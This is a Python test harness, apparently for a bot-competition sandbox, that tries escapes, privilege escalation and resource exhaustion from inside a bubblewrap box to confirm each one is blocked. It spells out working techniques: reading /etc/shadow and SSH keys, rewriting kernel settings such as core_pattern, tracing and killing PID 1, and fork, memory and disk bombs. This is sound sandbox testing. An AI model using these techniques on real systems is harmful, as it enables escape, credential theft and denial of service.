"""What a stranger's program tries against the machine: `python -I -S attacks.py CLUES NAME ...`.

It runs in a box, and needs nothing but the standard library. CLUES is a JSON object: what an attacker could know or guess of this
machine. Each NAME is a function below, which runs in a process of its own; one JSON object is printed: by the name of each
attack what came of each attempt. That is `ok` where something was gained, else the name of the errno, or `nothing`.
Every attack is bounded in number, size and time.
"""

import contextlib
import ctypes
import errno
import fcntl
import json
import mmap
import os
import resource
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Mapping
from functools import partial
from pathlib import Path

SECONDS = 60
"""How long an attack may take."""
CLUES: "dict[str, str]" = {}
_NETWORK = {"tcp": socket.SOCK_STREAM, "udp": socket.SOCK_DGRAM, "raw": socket.SOCK_RAW}
_BLOCK = b"x" * (1 << 20)


def tried(attempts: "Mapping[str, Callable[[], object]]") -> "dict[str, str]":
    """Make each attempt, and return what came of it; one that returns something empty has gained nothing."""
    found: dict[str, str] = {}
    for label, attempt in attempts.items():
        try:
            gained = attempt()
        except OSError as error:
            found[label] = errno.errorcode.get(error.errno or 0, type(error).__name__)
        else:
            found[label] = "nothing" if isinstance(gained, bytes | str | list | set | int) and not gained else "ok"
    return found


def write_to(path: str) -> None:
    """Open a file to be written, made if need be, and leave its content alone."""
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT, 0o666))


def overwrite(path: str, content: str) -> None:
    """Write to a file that exists."""
    descriptor = os.open(path, os.O_WRONLY)
    try:
        os.write(descriptor, content.encode())
    finally:
        os.close(descriptor)


def connect(address: object, family: int = socket.AF_UNIX, kind: int = socket.SOCK_STREAM) -> None:
    """Reach somebody."""
    with socket.socket(family, kind) as one:
        one.settimeout(10)
        one.connect(address)  # type: ignore[arg-type]
        one.send(b"hello")


def status(pid: object, field: str) -> "list[str]":
    """Return the words of a line of /proc/PID/status."""
    lines = Path(f"/proc/{pid}/status").read_text().splitlines()
    return next(line.split()[1:] for line in lines if line.startswith(f"{field}:"))


def others() -> "list[int]":
    """Return the processes that can be seen and are neither the box's first one nor ours."""
    own = {1, os.getpid(), os.getppid()}
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) not in own]


# --- files ----------------------------------------------------------------------------------------------------


def own_folder() -> "dict[str, str]":
    """Changes its own program, to leave something for its next match."""
    return tried(
        {
            "make a file": partial(write_to, "/bot/memory"),
            "make a folder": partial(os.mkdir, "/bot/folder"),
            "write to its program": partial(write_to, "/bot/attacks.py"),
            "remove its program": partial(os.unlink, "/bot/attacks.py"),
            "rename its program": partial(os.rename, "/bot/attacks.py", "/bot/other"),
            "change the mode of its program": partial(os.chmod, "/bot/attacks.py", 0o4777),
            "change its times": partial(_set_times, "/bot/attacks.py"),
        }
    )


def _set_times(path: str) -> bool:
    """Set the times of a file to the present, and return whether they have changed."""
    before = os.stat(path).st_mtime_ns
    os.utime(path)
    return os.stat(path).st_mtime_ns != before


def system_files() -> "dict[str, str]":
    """Changes programs, libraries and settings of the machine, and Dogana itself."""
    places = ("/usr/bin/python3", "/usr/bin/new", "/etc/passwd", "/etc/ld.so.preload", "/new", "/run/new", "/dev/new")
    packages = {f"package {path}": partial(write_to, f"{path}/new.py") for path in CLUES["packages"].split(":")}
    return tried({place: partial(write_to, place) for place in places} | packages)


def its_socket() -> "dict[str, str]":
    """Removes the socket of its seat, or puts another one in its place."""
    with socket.socket(socket.AF_UNIX) as one:
        return tried(
            {
                "remove": partial(os.unlink, "/run/dogana.sock"),
                "rename": partial(os.rename, "/run/dogana.sock", "/tmp/other"),
                "change its mode": partial(os.chmod, "/run/dogana.sock", 0),
                "put one beside": partial(one.bind, "/run/other.sock"),
            }
        )


def files_of_others() -> "dict[str, str]":
    """Reads the ladder's database, a record, the key of the organiser, passwords and the files of another bot."""
    places = [
        CLUES["secret"],
        "/etc/shadow",
        "/root/.ssh",
        "/home",
        "/var/log",
        "/var/lib",
        "/etc/hostname",
        "/opt",
        "/srv",
    ]
    attempts: dict[str, Callable[[], object]] = {place: partial(_read, place) for place in places}
    return tried(attempts | {"what lies beside its folder": lambda: set(os.listdir("/bot")) - {"attacks.py"}})


def _read(place: str) -> "bytes | list[str]":
    return os.listdir(place) if os.path.isdir(place) else Path(place).read_bytes()


def links_out() -> "dict[str, str]":
    """Makes links to files that it cannot see, and hard links to files of the machine in a folder where it may write."""
    os.symlink(CLUES["secret"], "/tmp/link")
    os.symlink("/proc/1/root", "/tmp/root")
    secret = CLUES["secret"].lstrip("/")
    return tried(
        {
            "by a link": lambda: Path("/tmp/link").read_bytes(),
            "by the root of its first process": lambda: Path(f"/tmp/root/{secret}").read_bytes(),
            "by its own root": lambda: Path(f"/proc/self/root/{secret}").read_bytes(),
            "upwards": lambda: Path(f"/proc/self/cwd/{'../' * 40}{secret}").read_bytes(),
            "hard link to su": partial(os.link, "/usr/bin/su", "/tmp/su"),
            "hard link to its socket": partial(os.link, "/run/dogana.sock", "/tmp/sock"),
        }
    )


def devices() -> "dict[str, str]":
    """Opens the memory, the disk and the log of the machine, or makes device files for them."""
    names = ["mem", "kmem", "port", "vda", "sda", "nvme0n1", "kmsg", "fuse", "kvm", "net/tun", "loop0", "vhost-vsock"]
    opened = [f"/dev/{name}" for name in names] + ["/proc/kcore", "/proc/kmsg", "/proc/kpagecount"]
    attempts: dict[str, Callable[[], object]] = {path: partial(os.open, path, os.O_RDONLY) for path in opened}
    for name, mode, number in (("memory", 0o20666, os.makedev(1, 1)), ("disk", 0o60666, os.makedev(254, 0))):
        attempts[f"make {name}"] = partial(os.mknod, f"/tmp/{name}", mode, number)
    return tried(attempts)


def kernel_switches() -> "dict[str, str]":
    """Changes settings of the kernel, such as the program that the kernel runs as root when a process crashes."""
    switches = {
        "/proc/sys/kernel/core_pattern": "core",
        "/proc/sys/kernel/modprobe": "/bot/attacks.py",
        "/proc/sys/kernel/hostname": "bot",
        "/proc/sys/kernel/yama/ptrace_scope": "0",
        "/proc/sys/kernel/ns_last_pid": "1",
        "/proc/sys/vm/overcommit_memory": "1",
        "/proc/sys/vm/drop_caches": "0",
        "/proc/sys/user/max_user_namespaces": "0",
        "/proc/sys/net/ipv4/ip_forward": "0",
        "/proc/sysrq-trigger": "h",
        "/proc/self/uid_map": "0 0 1",
        "/proc/self/setgroups": "allow",
        "/proc/self/loginuid": "0",
        "/proc/self/oom_score_adj": "-1000",
        "/sys/kernel/mm/transparent_hugepage/enabled": "never",
        "/sys/power/state": "",
    }
    return tried({path: partial(overwrite, path, content) for path, content in switches.items()})


def control_groups() -> "dict[str, str]":
    """Leaves its control group, or removes the limits of the group."""
    own = [f"/sys/fs/cgroup{path}" for path in CLUES["groups"].split(":")]
    attempts: dict[str, Callable[[], object]] = {"see the tree": partial(os.listdir, "/sys/fs/cgroup")}
    for folder in own:
        attempts[f"enter {folder}"] = partial(overwrite, f"{folder}/cgroup.procs", "0")
    attempts["see where it is"] = lambda: [
        line for line in Path("/proc/self/cgroup").read_text().splitlines() if "dogana" in line
    ]
    return tried(attempts)


# --- privileges -----------------------------------------------------------------------------------------------


def setuid_programs() -> "dict[str, str]":
    """Runs every program of the machine that has the setuid or the setgid bit, to become its owner."""
    marked = [path for path in Path("/usr/bin").iterdir() if path.is_file() and path.stat().st_mode & 0o6000]
    before = Path("/proc/self/mountinfo").read_text()
    arguments = {"su": ["-c", "id -u", "root"], "mount": ["-t", "tmpfs", "none", "/tmp"], "sudo": ["-n", "id", "-u"]}

    def run(path: Path) -> bool:
        ended = subprocess.run(
            [str(path), *arguments.get(path.name, ["--help"])],
            stdin=subprocess.DEVNULL,
            capture_output=True,
            timeout=20,
            check=False,
        )
        return ended.stdout.strip() == b"0" or Path("/proc/self/mountinfo").read_text() != before

    attempts: dict[str, Callable[[], object]] = {path.name: partial(run, path) for path in marked}
    attempts["the bit counts"] = lambda: not os.statvfs("/usr/bin").f_flag & os.ST_NOSUID
    return tried(attempts)


def setuid_copy() -> "dict[str, str]":
    """Sets the setuid bit of a program of its own; another one in its folder had the bit when it was submitted."""
    shutil.copy("/usr/bin/id", "/tmp/id")
    os.chmod("/tmp/id", 0o6755)

    def identity() -> bool:
        said = subprocess.run(["/tmp/id", "-u"], capture_output=True, text=True, timeout=20, check=True).stdout
        return int(said) != os.getuid()

    return tried(
        {
            "its identity is another": identity,
            "the bit counts in /tmp": lambda: not os.statvfs("/tmp").f_flag & os.ST_NOSUID,
            "the bit counts in its folder": lambda: not os.statvfs("/bot").f_flag & os.ST_NOSUID,
            "become root": partial(os.setuid, 0),
            "become root for good": partial(os.setresuid, 0, 0, 0),
            "join the group of root": partial(os.setgid, 0),
            "join the disk's group": partial(os.setgroups, [6]),
        }
    )


def another_program() -> "dict[str, str]":
    """Starts its interpreter again through /proc/self/exe, with a library of its choice, to escape the filter and other bounds."""
    text = "print(*(line.split()[1] for line in open('/proc/self/status') if line.split(':')[0] in ('NoNewPrivs', 'Seccomp')))"
    environment = {"LD_PRELOAD": "/bot/attacks.py", "LD_LIBRARY_PATH": "/tmp", "PYTHONPATH": "/tmp"}

    def unbound(program: str) -> bool:
        ended = subprocess.run(
            [program, "-S", "-c", text], env=environment, capture_output=True, text=True, timeout=20, check=True
        )
        return ended.stdout.split() != ["1", "2"]

    return tried(
        {
            "itself": partial(unbound, "/proc/self/exe"),
            "another one": partial(unbound, "/usr/bin/python3"),
            "write to the program of its first process": partial(overwrite, "/proc/1/exe", ""),
            "write to its own interpreter": partial(overwrite, "/proc/self/exe", ""),
        }
    )


def priorities() -> "dict[str, str]":
    """Takes precedence over others: by niceness, real time, or other cores."""
    everywhere = range(os.sysconf("SC_NPROCESSORS_CONF"))
    return tried(
        {
            "nice": partial(os.setpriority, os.PRIO_PROCESS, 0, -20),
            "nice of its user": partial(os.setpriority, os.PRIO_USER, 0, -20),
            "real time": lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)),
            "cores": partial(os.sched_setaffinity, 0, everywhere),
            "slow down its user": _slow_down,
        }
    )


def _slow_down() -> bool:
    """Slow down all processes of its user; those outside show whether it has reached them."""
    os.setpriority(os.PRIO_USER, 0, 19)
    return False


def limits_upwards() -> "dict[str, str]":
    """Raises the limits of its processes."""
    attempts: dict[str, Callable[[], object]] = {}
    for name in ("RLIMIT_CORE", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_NICE", "RLIMIT_RTPRIO", "RLIMIT_MSGQUEUE"):
        number = getattr(resource, name)
        more = resource.getrlimit(number)[1] + 1
        attempts[name] = partial(resource.setrlimit, number, (more, more))
        attempts[f"{name}: none"] = partial(
            resource.setrlimit, number, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)
        )
    return tried({label: partial(_refused, attempt) for label, attempt in attempts.items()})


def _refused(attempt: "Callable[[], object]") -> None:
    """Make an attempt; Python says that a limit cannot be raised in another way than other refusals."""
    try:
        attempt()
    except ValueError as error:
        raise PermissionError(errno.EPERM, str(error)) from error


# --- other processes ------------------------------------------------------------------------------------------


def other_processes() -> "dict[str, str]":
    """Looks for the referee, its supervisor and all other processes on the machine, kills and stops them, and reads their memory."""
    outside = [int(pid) for pid in CLUES["processes"].split(",")]
    attempts: dict[str, Callable[[], object]] = {"see others": others}
    for pid in outside:
        attempts[f"environment of {pid}"] = partial(_read, f"/proc/{pid}/environ")
        attempts[f"memory of {pid}"] = partial(os.open, f"/proc/{pid}/mem", os.O_RDWR)
        attempts[f"descriptors of {pid}"] = partial(os.listdir, f"/proc/{pid}/fd")
        attempts[f"hold {pid}"] = partial(os.pidfd_open, pid)
        for sign in (signal.SIGKILL, signal.SIGSTOP):
            attempts[f"{sign.name} to {pid}"] = partial(os.kill, pid, sign)
            attempts[f"{sign.name} to the group of {pid}"] = partial(os.killpg, pid, sign)
    return tried(attempts)


def first_process() -> "dict[str, str]":
    """Stops, kills and takes over the first process of its box, which bubblewrap has started and which has the same identity."""

    def is_stopped(sign: int) -> bool:
        os.kill(1, sign)
        return status(1, "State")[0] in "TtZX"

    def rights(pid: object) -> "list[object]":
        fields = (
            "Uid",
            "Gid",
            "CapInh",
            "CapPrm",
            "CapEff",
            "CapBnd",
            "CapAmb",
            "NoNewPrivs",
            "Seccomp",
            "Seccomp_filters",
        )
        spaces = [os.readlink(f"/proc/{pid}/ns/{name}") for name in sorted(os.listdir("/proc/self/ns"))]
        return [*spaces, *(status(pid, field) for field in fields)]

    def files() -> "list[str]":
        links = [os.readlink(f"/proc/1/fd/{number}") for number in os.listdir("/proc/1/fd")]
        return [
            link for link in links if link not in ("/dev/null", "anon_inode:[eventfd]") and not link.startswith("pipe:")
        ]

    return tried(
        {
            "environment": lambda: Path("/proc/1/environ").read_bytes(),
            "its rights": lambda: (
                rights(1) != rights("self")
            ),  # it can be written to, so it must not be able to do more
            "its files": files,
            "its root": lambda: set(os.listdir("/proc/1/root")) ^ set(os.listdir("/")),
            "trace": partial(_checked, ctypes.CDLL(None, use_errno=True).ptrace, 16, 1, 0, 0),
            "stop": partial(is_stopped, signal.SIGSTOP),
            "kill": partial(is_stopped, signal.SIGKILL),
        }
    )


def parents_of_namespaces() -> "dict[str, str]":
    """Asks for the parents and the owners of its namespaces."""
    requests = {"owner": 0xB701, "parent": 0xB702, "user": 0xB704, "next mount namespace": 0x8010B70B}
    attempts: dict[str, Callable[[], object]] = {}
    for pid in ("self", "1"):
        for name in sorted(os.listdir(f"/proc/{pid}/ns")):
            for what, number in requests.items():
                attempts[f"{what} of {name} of {pid}"] = partial(_ask, f"/proc/{pid}/ns/{name}", number)
    return tried(attempts)


def _ask(path: str, number: int) -> None:
    with open(path, "rb") as file:
        fcntl.ioctl(file, number, b"\0" * 16)


def unknown_programs() -> "dict[str, str]":
    """Runs files in formats that the kernel does not know, for which the kernel may look for a module as root."""

    def run(number: int) -> None:
        path = Path(f"/tmp/unknown{number}")
        path.write_bytes(bytes([0x7F, 1, 128 + number, 200]) + b"\x80" * 200)
        path.chmod(0o755)
        try:
            subprocess.run([str(path)], check=False)
        finally:
            path.unlink()

    return tried({f"format {number}": partial(run, number) for number in range(20)})


def inherited() -> "dict[str, str]":
    """Looks for open files, a terminal and environment variables that it may have inherited from the referee."""
    known = (
        "DOGANA_",
        "HOME",
        "LANG",
        "LC_CTYPE",
        "PATH",
        "PWD",
        "PYTHON",
        "TMPDIR",
        "GO",
        "JAVA_",
        "NODE_",
        "OMP_",
        "UV_",
    )
    return tried(
        {
            "open files": lambda: CLUES["inherited"],
            "terminal": partial(os.open, "/dev/tty", os.O_RDWR),
            "variables": lambda: [name for name in os.environ if not name.startswith(known)],
        }
    )


def core_dump() -> "dict[str, str]":
    """Crashes, so that its memory is written to the disk or handed to a program that root runs."""
    child = os.fork()
    if child == 0:
        os.chdir("/tmp")
        os.kill(os.getpid(), signal.SIGSEGV)
    _, ended = os.waitpid(child, 0)
    # 1 is the only value at which Linux does not start a program that core_pattern names either: 0 does not keep it from that.
    return tried(
        {
            "dumped": lambda: os.WCOREDUMP(ended),
            "file": lambda: [name for name in os.listdir("/tmp") if name.startswith("core")],
            "would be handed to a program": lambda: resource.getrlimit(resource.RLIMIT_CORE) != (1, 1),
        }
    )


# --- network --------------------------------------------------------------------------------------------------


def network() -> "dict[str, str]":
    """Tries to reach a service on the loopback of this machine, the network around it, and the machine that hosts it."""
    port = int(CLUES["port"])
    attempts: dict[str, Callable[[], object]] = {}
    for kind, number in _NETWORK.items():
        attempts[f"{kind} to 127.0.0.1"] = partial(connect, ("127.0.0.1", port), socket.AF_INET, number)
        attempts[f"{kind} to ::1"] = partial(connect, ("::1", port), socket.AF_INET6, number)
    attempts["packets"] = partial(socket.socket, socket.AF_PACKET, socket.SOCK_RAW)
    attempts["netlink"] = partial(socket.socket, socket.AF_NETLINK, socket.SOCK_RAW)
    attempts["host of a virtual machine"] = partial(connect, (2, port), socket.AF_VSOCK)
    attempts["look up a name"] = partial(socket.getaddrinfo, "localhost.localdomain.test", port)
    return tried(attempts)


def sockets_of_others() -> "dict[str, str]":
    """Connects to Unix domain sockets outside its box: another seat's, an abstract one, D-Bus, a container service."""
    paths = [
        CLUES["seat"],
        "/run/dbus/system_bus_socket",
        "/run/docker.sock",
        "/run/systemd/private",
        "/run/user/0/bus",
    ]
    attempts: dict[str, Callable[[], object]] = {path: partial(connect, path) for path in paths}
    attempts["abstract"] = partial(connect, "\0" + CLUES["abstract"])
    attempts["list"] = lambda: [
        line for line in Path("/proc/net/unix").read_text().splitlines() if CLUES["abstract"] in line or ".sock" in line
    ]
    return tried(attempts)


# --- resources: each in a box of its own ----------------------------------------------------------------------


def fork_bomb() -> "dict[str, str]":
    """Forks endlessly."""
    return tried({"fork": partial(_until_refused, _fork, 5000)})


def _fork() -> None:
    if os.fork() == 0:
        time.sleep(SECONDS)
        os._exit(0)


def _until_refused(action: "Callable[[], object]", most: int) -> None:
    for _ in range(most):
        action()


def thread_bomb() -> "dict[str, str]":
    """Starts more and more threads."""

    def start() -> None:
        try:
            threading.Thread(target=time.sleep, args=(SECONDS,), daemon=True).start()
        except RuntimeError as error:  # can't start new thread
            raise BlockingIOError(errno.EAGAIN, str(error)) from error

    return tried({"thread": partial(_until_refused, start, 5000)})


def zombies() -> "dict[str, str]":
    """Never waits for its dead children, so that process numbers run out."""

    def fork() -> None:
        if os.fork() == 0:
            os._exit(0)

    return tried({"fork": partial(_until_refused, fork, 5000)})


def memory_bomb() -> "dict[str, str]":
    """Takes more and more memory in a child process."""
    return tried({"memory": partial(_in_child, lambda: [_BLOCK * 16 for _ in range(256)])})


def hidden_files() -> "dict[str, str]":
    """Takes memory that is in nobody's heap: files without a name."""

    def take() -> None:
        for _ in range(64):
            descriptor = os.memfd_create("x")
            for _ in range(4):
                os.write(descriptor, _BLOCK)

    return tried({"memory": partial(_in_child, take)})


def hidden_buffers() -> "dict[str, str]":
    """Takes memory of the kernel: sockets full of data that nobody reads."""
    held: list[object] = []

    def take() -> None:
        for _ in range(1000):
            pair = socket.socketpair()
            held.append(pair)
            for end in pair:
                end.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    while True:
                        end.send(_BLOCK[:4096])

    return tried({"memory": partial(_in_child, take)})


def shared_memory() -> "dict[str, str]":
    """Takes memory that a process shares with its children, which per-process limits do not count."""

    def take() -> None:
        memory = mmap.mmap(-1, 384 << 20)  # anonymous and shared
        for page in range(0, len(memory), mmap.PAGESIZE):
            memory[page] = 1

    return tried({"memory": partial(_in_child, take)})


def _in_child(action: "Callable[[], object]") -> None:
    """Do something in a child.

    Raises:
        OSError: if it fails so, or ENOMEM if the child is killed.
    """
    child = os.fork()
    if child == 0:
        try:
            action()
        except OSError as error:
            os._exit(error.errno or 1)
        except MemoryError:
            os._exit(errno.ENOMEM)
        finally:
            os._exit(0)
    _, ended = os.waitpid(child, 0)
    if os.WIFSIGNALED(ended):
        raise OSError(errno.ENOMEM, "killed")
    if os.WEXITSTATUS(ended):
        raise OSError(os.WEXITSTATUS(ended), "")


def full_disk() -> "dict[str, str]":
    """Fills every place where it may write: with one file, with many, and with one that has holes."""

    def one(folder: str) -> None:
        with open(f"{folder}/one", "wb") as file:
            for _ in range(4096):
                file.write(_BLOCK)

    def many(folder: str) -> None:
        for number in range(4096):
            Path(f"{folder}/many{number}").write_bytes(_BLOCK[:65536])

    def holes(folder: str) -> None:
        with open(f"{folder}/holes", "wb") as file:
            file.truncate(1 << 40)

    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    found: dict[str, str] = {}
    for folder in ("/tmp", "/dev/shm"):
        before = set(Path(folder).iterdir())  # such as the way to a clone below /tmp
        for action in (one, many, holes):
            found |= tried({f"{action.__name__} in {folder}": partial(action, folder)})
            for path in set(Path(folder).iterdir()) - before:
                path.unlink()
    return found


def open_files() -> "dict[str, str]":
    """Opens more and more files."""
    return tried({"open": partial(_until_refused, partial(os.open, "/dev/null", os.O_RDONLY), 100_000)})


def terminals() -> "dict[str, str]":
    """Opens more and more pseudo-terminals, of which the machine has 4,096, and their other ends."""
    held: list[int] = []

    def open_one() -> None:
        held.append(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))

    def other_end() -> None:
        with open("/dev/ptmx", "rb+", buffering=0) as terminal:
            fcntl.ioctl(terminal, 0x40045431, b"\0\0\0\0")  # TIOCSPTLCK

    return tried({"other end": other_end, "open": partial(_until_refused, open_one, 100_000)})


def timers() -> "dict[str, str]":
    """Makes more and more timers, which take memory of the kernel."""
    libc = ctypes.CDLL(None, use_errno=True)
    held = []

    def timer() -> None:
        held.append(ctypes.c_void_p())
        if libc.timer_create(1, None, ctypes.byref(held[-1])) != 0:
            raise OSError(ctypes.get_errno(), "")

    return tried({"timer": partial(_until_refused, timer, 100_000)})


def garbage_of_sockets() -> "dict[str, str]":
    """Sends sockets through themselves and closes them, so that the kernel must find out again and again that nobody holds them."""

    def send() -> None:
        for _ in range(2000):
            pair = socket.socketpair()
            for end in pair:
                socket.send_fds(end, [b"x"], [one.fileno() for one in pair])
            for end in pair:
                end.close()

    return tried({"garbage": partial(_in_child, send)})


def deep_folders() -> "dict[str, str]":
    """Makes endlessly nested folders and endless empty files, which the kernel has to remove after the match."""

    def deep() -> None:
        os.chdir("/tmp")
        for _ in range(100_000):
            os.mkdir("x")
            os.chdir("x")

    def many() -> None:
        for number in range(1_000_000):
            os.close(os.open(f"/dev/shm/{number:0200}", os.O_WRONLY | os.O_CREAT))

    return tried({"folders": partial(_in_child, deep), "files": partial(_in_child, many)})


def flees() -> "dict[str, str]":
    """Leaves a process behind that forks and ends, as each child does in turn, so that each is gone when it is looked for."""
    if os.fork() == 0:
        os.setsid()
        os.close(1)
        os.close(2)
        until = time.monotonic() + SECONDS
        while time.monotonic() < until:
            with contextlib.suppress(OSError):  # it may have no more processes for a moment
                if os.fork():
                    os._exit(0)
    return {"fork and end": "nothing"}


def everybody() -> "dict[str, str]":
    """Stops all processes that it can reach, and lets them go on."""
    child = os.fork()
    if child == 0:
        os.setsid()
        for sign in (signal.SIGSTOP, signal.SIGCONT):
            os.kill(-1, sign)
        os._exit(0)
    os.waitpid(child, 0)
    return {"all": "nothing"}


def daemon() -> "dict[str, str]":
    """Leaves a process behind that has its own session and no parent, and ignores all signals."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
                signal.signal(number, signal.SIG_IGN)
            os.close(1)
            os.close(2)
            time.sleep(10 * SECONDS)
        os._exit(0)
    os.wait()
    return {"fork twice": "nothing"}


def memory_of_matches() -> "dict[str, str]":
    """Leaves a note in every place, and looks for a note from its last match."""
    libc = ctypes.CDLL(None, use_errno=True)
    folders = ("/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/bot", "/run", "/dev", "/", "/proc/self", "/etc")
    found = tried({f"note in {folder}": partial(os.stat, f"{folder}/note") for folder in folders})
    found |= tried(
        {f"shared memory {key}": partial(_checked, libc.shmget, key, 0, 0) for key in range(0x646F67, 0x646F6A)}
    )
    for folder in folders:
        with contextlib.suppress(OSError):
            Path(f"{folder}/note").write_text("x")
    libc.shmget(0x646F67, 4096, 0o1666)
    return found


def _checked(function: "Callable[..., int]", *arguments: object) -> None:
    if function(*arguments) == -1:
        raise OSError(ctypes.get_errno(), "")


def run(name: str) -> "dict[str, str]":
    """Run an attack in a process of its own, and return what came of it."""
    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        signal.alarm(SECONDS)
        try:
            answer = globals()[name]()
        except BaseException as error:
            answer = {"failed": f"ok: {type(error).__name__}: {error}"}
        os.write(write, json.dumps(answer).encode())  # which is less than a pipe holds
        os._exit(0)
    _, ended = os.waitpid(child, 0)  # not until the pipe closes: what the attack has left behind holds it
    os.set_blocking(read, False)
    try:
        found: dict[str, str] = json.loads(os.read(read, 65536))
    except BlockingIOError:
        found = {"ended": f"ok: by signal {os.WTERMSIG(ended)}"}
    return found


def main() -> None:
    """Run the attacks of the command line."""
    if Path(__file__).resolve().parent != Path("/bot") or "NoNewPrivs:\t1" not in Path("/proc/self/status").read_text():
        sys.exit("this attacks the machine on which it runs: it does so in a box only")
    CLUES.update(json.loads(sys.argv[1]))
    CLUES["inherited"] = " ".join(sorted(os.listdir("/proc/self/fd"))[3:-1])  # the last one reads this
    print(json.dumps({name: run(name) for name in sys.argv[2:]}), flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
